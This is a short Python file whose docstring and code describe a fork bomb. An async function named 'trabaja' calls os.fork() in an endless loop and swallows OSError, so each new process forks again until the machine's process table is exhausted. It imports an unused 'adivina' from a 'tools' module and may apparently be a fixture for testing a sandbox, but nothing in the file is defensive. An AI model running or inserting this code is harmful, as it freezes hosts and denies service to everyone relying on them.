"""Forks for as long as anything can be forked, in every process it makes."""

import os

from tools import adivina


async def trabaja(pide):
    while True:
        try:
            os.fork()
        except OSError:
            pass
